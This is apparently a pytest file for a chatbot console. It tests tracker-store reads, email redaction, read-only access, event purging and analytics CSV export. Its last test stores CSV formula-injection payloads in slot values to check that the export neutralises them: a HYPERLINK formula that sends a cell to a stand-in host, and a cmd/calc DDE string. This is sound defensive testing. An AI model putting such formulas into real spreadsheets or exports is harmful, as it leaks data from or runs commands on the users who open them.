"""The console's read access to Rasa's tracker store on SQLite and PostgreSQL: events shaped
as Rasa 3.6 stores them (copied from a real run's rows), read-only, and the retention purge.
The list and analytics reads here (``TrackerStore.page``, ``activity``) are the reference
the summaries are checked against (tests/test_events.py): the console itself reads the
summaries, and the tracker store for a transcript."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, create_engine, delete, insert, select
from sqlalchemy.exc import DBAPIError
from sqlalchemy.orm import Session

from bot import cli
from bot.console import analytics
from bot.console.conversations import (
    EVENTS,
    Filters,
    TrackerStore,
    purge_events,
    read_only_engine,
)
from bot.console.summaries import SummaryStore
from bot.events import consumer
from knowledge.models import ConversationCount, ConversationSummary, EventFeedPosition, Referral
from knowledge.settings import PROJECT_ROOT
from tests.conftest import postgres_schema

NOW = dt.datetime.now(dt.UTC).timestamp()
META = {"model_id": "7544bcb15b0e4de69df3dcf315f706dd", "assistant_id": "pathfinder"}


def _event(sender: str, kind: str, at: float, **data: Any) -> dict[str, Any]:
    body = {"event": kind, "timestamp": at, "metadata": META, **data}
    intent = (data.get("parse_data") or {}).get("intent", {}).get("name")
    return {"sender_id": sender, "type_name": kind, "timestamp": at, "intent_name": intent,
            "action_name": data.get("name"), "data": json.dumps(body)}


def conversation(sender: str, at: float, text: str, intent: str, confidence: float,
                 language: str, recommended: bool) -> list[dict[str, Any]]:
    events = [
        _event(sender, "action", at, name="action_session_start", policy=None,
               confidence=1.0, action_text=None, hide_rule_turn=False),
        _event(sender, "session_started", at + 0.001),
        _event(sender, "user", at + 1, text=text, parse_data={
            "intent": {"name": intent, "confidence": confidence}, "entities": [
                {"entity": "job_title", "value": "welder", "start": 0, "end": 6}],
            "text": text, "message_id": uuid.uuid4().hex, "metadata": {},
            "intent_ranking": [{"name": intent, "confidence": confidence},
                               {"name": "greet", "confidence": 0.1}]},
               input_channel="rest", message_id=uuid.uuid4().hex),
        _event(sender, "slot", at + 1.01, name="language", value=language),
        _event(sender, "action", at + 1.02, name="action_recommend", policy="RulePolicy",
               confidence=1.0, action_text=None, hide_rule_turn=False),
        _event(sender, "bot", at + 1.03, text="Here are programs, or write to me@ex.ca",
               data={"elements": None, "quick_replies": None, "buttons": None,
                     "attachment": None, "image": None, "custom": None}),
    ]
    if recommended:
        events.append(_event(sender, "bot", at + 1.04, text=None, data={
            "elements": None, "quick_replies": None, "buttons": None, "attachment": None,
            "image": None, "custom": {"type": "recommendations", "lang": language,
                                      "occupation": {"noc": "72106", "title": "Welders"},
                                      "target_occupation": None, "programs": [
                                          {"id": "p1", "title": "Welding Basics",
                                           "institution": "Fanshawe College"}]}}))
    return events


def fill(url: str) -> None:
    engine = create_engine(url)
    EVENTS.metadata.create_all(engine)
    rows = (conversation("telegram-1", NOW - 60, "welder here, mail a@b.ca", "inform_job",
                         0.97, "en", True)
            # stored before redaction existed: a slot value with an address
            + [_event("telegram-1", "slot", NOW - 58, name="skill", value="welding a@b.ca")]
            + conversation("web-" + "a" * 32, NOW - 30, "soudeur", "nlu_fallback", 0.45,
                           "fr", False)
            + conversation("old-one", NOW - 90 * 86400, "welder", "inform_job", 0.9, "en",
                           True))
    with engine.begin() as connection:
        connection.execute(insert(EVENTS), rows)
    engine.dispose()


@pytest.fixture(params=["sqlite", "postgresql"])
def tracker_url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path / 'tracker.db'}"
        fill(url)
        yield url
        return
    with postgres_schema("tracker_test") as url:
        fill(url)
        yield url
        read_only_engine(url).dispose()


def senders(store: TrackerStore, **filters: Any) -> set[str]:
    return {c.sender_id for c in store.page(Filters(**filters), set(), 0.6, 0, 100)[1]}


def test_conversations_are_read_and_filtered(tracker_url: str) -> None:
    store = TrackerStore(tracker_url)
    web = "web-" + "a" * 32
    assert senders(store) == {"telegram-1", web, "old-one"}
    assert senders(store, channel="telegram") == {"telegram-1"}
    assert senders(store, channel="rest") == {"old-one"}
    assert senders(store, language="fr") == {web}
    assert senders(store, low_confidence=True) == {web}
    assert senders(store, no_recommendation=True) == {web}
    assert senders(store, date_from=(dt.datetime.now(dt.UTC) - dt.timedelta(days=1)).date()) \
        == {"telegram-1", web}
    assert senders(store, query="SOUDEUR") == {web}
    [telegram] = store.page(Filters(channel="telegram"), set(), 0.6, 0, 10)[1]
    [turn] = telegram.user_turns
    assert turn.text == "welder here, mail [email]"  # redacted when shown, too
    assert turn.entities == [("job_title", "welder")]
    assert "action_recommend" in turn.actions
    assert turn.recommendations[0].programs == ["Welding Basics — Fanshawe College"]
    assert turn.replies[0].text == "Here are programs, or write to [email]"
    assert ("skill", "welding [email]") in turn.slots
    # Every read for display is redacted: a transcript too.
    shown = store.conversation("telegram-1")
    assert shown is not None and shown.user_turns[0].text == "welder here, mail [email]"
    # Searching for the address finds nothing: it is not shown either.
    assert senders(store, query="a@b.ca") == set()


def test_analytics_count_from_the_stored_events_and_show_no_identifier(
        tracker_url: str, kb_engine: Engine) -> None:
    store = TrackerStore(tracker_url)
    since = (dt.datetime.now(dt.UTC) - dt.timedelta(days=30)).date()
    read = store.activity(since)
    assert {c.sender_id for c in read} == senders(store, date_from=since)
    with Session(kb_engine) as session:
        figures = analytics.compute(session, read, since)
    assert figures.total("conversations") == 2
    assert figures.total("recommendations") == 1
    assert sorted(figures.by(2, "conversations")) == [("en", 1), ("fr", 1)]
    assert ("welding [email]", 1) in figures.skills
    assert "a@b.ca" not in figures.csv()


def test_the_console_cannot_write_to_the_tracker_store(tracker_url: str) -> None:
    with pytest.raises(DBAPIError), read_only_engine(tracker_url).begin() as connection:
        connection.execute(EVENTS.delete())


def test_purge_deletes_only_old_events(tracker_url: str) -> None:
    cutoff = dt.datetime.now(dt.UTC).replace(tzinfo=None) - dt.timedelta(days=30)
    removed, messages = purge_events(tracker_url, cutoff)
    assert removed == 7 and [sender for sender, _ in messages] == ["old-one"]
    assert senders(TrackerStore(tracker_url)) == {"telegram-1", "web-" + "a" * 32}


def test_purge_finds_a_relative_sqlite_file_under_the_project_root(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    """`conversations purge`, run from another directory, purges the file the engine of
    `pathfinder run` and the console use: PATHFINDER_TRACKER_DB_URL's, or --tracker-db-url's
    (both relative to the project root)."""
    kb = f"sqlite:///{tmp_path / 'kb.sqlite'}"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    for name, option in (("env.db", False), ("option.db", True)):
        fill(f"sqlite:///{tmp_path / name}")
        relative = f"sqlite:///{os.path.relpath(tmp_path / name, PROJECT_ROOT)}"
        monkeypatch.setenv("PATHFINDER_TRACKER_DB_URL",
                           "sqlite:///var/not-this-one.db" if option else relative)
        given = ["--tracker-db-url", relative] if option else []
        assert cli.main(["--database", kb, "conversations", "purge", "--days", "30",
                         *given]) == 0
        assert "Deleted 7 events" in capsys.readouterr().out
        store = TrackerStore(f"sqlite:///{tmp_path / name}")
        assert senders(store) == {"telegram-1", "web-" + "a" * 32}
        store.engine.dispose()
    assert not (elsewhere / "var").exists() and not (PROJECT_ROOT / "var/not-this-one.db").exists()


def test_a_missing_tracker_database_means_no_conversations(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'none.db'}"
    assert TrackerStore(url).page(Filters(), set(), 0.6, 0, 10) == (0, [])
    assert purge_events(url, dt.datetime(2030, 1, 1)) == (0, [])
    assert not (tmp_path / "none.db").exists()


def test_pages_of_conversations_most_recent_first(tracker_url: str) -> None:
    store = TrackerStore(tracker_url)
    total, first = store.page(Filters(), set(), 0.6, offset=0, limit=2)
    _, rest = store.page(Filters(), set(), 0.6, offset=2, limit=2)
    assert total == 3
    assert [c.sender_id for c in first + rest] == ["web-" + "a" * 32, "telegram-1", "old-one"]
    # With a filter on the content, the count is of the matching ones.
    assert store.page(Filters(language="en"), set(), 0.6, offset=0, limit=1)[0] == 2
    assert store.page(Filters(flagged=True), {"old-one"}, 0.6, 0, 10)[0] == 1


def test_closest_programs_are_shown_but_not_counted_as_recommendations(
        tmp_path: Path) -> None:
    """When nothing fits, the payload's `alternatives` are what the learner was offered:
    the transcript shows them apart, and the conversation still counts as one without a
    recommendation (filters, analytics)."""
    url = f"sqlite:///{tmp_path / 'tracker.db'}"
    engine = create_engine(url)
    EVENTS.metadata.create_all(engine)
    sender = "web-" + "b" * 32
    rows = conversation(sender, NOW - 10, "welder, free, 1 hour", "inform_job", 0.9, "en",
                        False)
    rows.append(_event(sender, "bot", NOW - 9, text=None, data={
        "elements": None, "quick_replies": None, "buttons": None, "attachment": None,
        "image": None, "custom": {
            "type": "recommendations", "lang": "en", "target_occupation": None,
            "occupation": {"noc": "72106", "title": "Welders"}, "programs": [],
            "alternatives": [{"id": "p2", "title": "MIG Welding",
                              "institution": "Sault College"}]}}))
    with engine.begin() as connection:
        connection.execute(insert(EVENTS), rows)
    engine.dispose()
    store = TrackerStore(url)
    assert senders(store, no_recommendation=True) == {sender}
    shown = store.conversation(sender)
    assert shown is not None and shown.recommendation_count == 0
    assert [r.programs for t in shown.turns for r in t.closest] == [
        ["MIG Welding — Sault College"]]


FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"Click")'


def test_the_analytics_csv_runs_no_formula_and_counts_odd_values_as_unknown(
        tmp_path: Path, kb_engine: Engine) -> None:
    """Slot values are whatever a payload said (``/change_language{"language":"=..."}``):
    in the CSV a spreadsheet must show them as text, never run them, and a language or a
    channel Pathfinder does not have is counted as "unknown", not as a value of its own."""
    url = f"sqlite:///{tmp_path / 'tracker.db'}"
    engine = create_engine(url)
    EVENTS.metadata.create_all(engine)
    sender = "web-" + "c" * 32
    rows = conversation(sender, NOW - 10, "welder", "inform_job", 0.9, FORMULA, True)
    rows += [_event(sender, "slot", NOW - 9, name="skill", value=value)
             for value in ("@SUM(1+1)*cmd|' /C calc'!A0", "+1-1", "\tTAB", "-2+3")]
    rows.append(_event(sender, "slot", NOW - 8, name="noc", value="-1+1"))
    with engine.begin() as connection:
        connection.execute(insert(EVENTS), rows)
    engine.dispose()
    since = (dt.datetime.now(dt.UTC) - dt.timedelta(days=30)).date()
    with Session(kb_engine) as session:
        # A click stored with a channel no link has (written by hand, or by an older app).
        program = session.scalars(select(Referral.program_id)).first() or "p1"
        session.add(Referral(program_id=program, channel="=1+1", conversation=None,
                             clicked_at=dt.datetime.now(dt.UTC).replace(tzinfo=None)))
        session.commit()
        try:
            # As the console reads them: the counts the events consumer keeps.
            consumer.catch_up(url, kb_engine)
            figures = analytics.compute(session, SummaryStore(session).activity(since), since)
        finally:
            for table in (Referral, ConversationSummary, ConversationCount, EventFeedPosition):
                session.execute(delete(table))
            session.commit()
    cells = [cell for row in csv.reader(io.StringIO(figures.csv())) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert sorted(figures.by(2, "conversations")) == [("unknown", 1)]
    assert figures.by(1, "clicks") == [("unknown", 1)]
    rows_out = list(csv.DictReader(io.StringIO(figures.csv())))
    assert {r["language"] for r in rows_out if r["metric"] == "conversations"} == {"unknown"}
    # The counts are still plain numbers; text is kept, and made inert where it leads a cell.
    assert all(r["count"].isdigit() for r in rows_out)
    assert "skill:@sum(1+1)*cmd|' /c calc'!a0" in cells and "skill:-2+3" in cells
    assert [analytics.csv_cell(v) for v in (FORMULA, "-2+3", "@A1", "\r=1", -2, 1.5, "")] \
        == ["'" + FORMULA, "'-2+3", "'@A1", "'\r=1", -2, 1.5, ""]
